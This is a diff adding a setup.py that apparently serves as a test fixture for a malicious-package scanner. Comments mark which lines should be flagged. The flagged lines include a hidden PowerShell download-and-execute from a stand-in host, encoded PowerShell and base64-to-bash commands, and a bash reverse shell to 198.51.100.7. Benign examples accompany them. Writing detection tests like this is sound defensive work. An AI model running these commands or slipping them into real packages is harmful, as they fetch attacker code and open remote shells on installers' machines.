@@ -1,0 +1,29 @@
+# path: setup.py
+import os
+import subprocess
+
+from setuptools import setup
+
+
+def run(cmd):
+    return subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE).communicate()
+
+
+# ruleid: py-behaviour-command-fetch-run
+run("powershell -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')\"")
+# ruleid: py-behaviour-command-encoded
+subprocess.call(["powershell", "-NoP", "-enc", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="])
+# ruleid: py-behaviour-command-encoded
+os.system("echo aWQK | base64 -d | bash")
+# ruleid: py-behaviour-command-shell-socket
+os.system("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")
+# ok: py-behaviour-command-fetch-run
+subprocess.check_call(["curl", "-fsSL", "-o", "vendor/lib.tgz", "https://example.org/v1.tgz"])
+# ok: py-behaviour-command-encoded
+version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
+# ok: py-behaviour-command-shell-socket
+os.system("nc -z localhost 5432 && echo database is up")
+# ok: py-behaviour-command-fetch-run
+run("make -C native && ./configure --prefix=/usr/local")
+
+setup(name="demo", version=version)
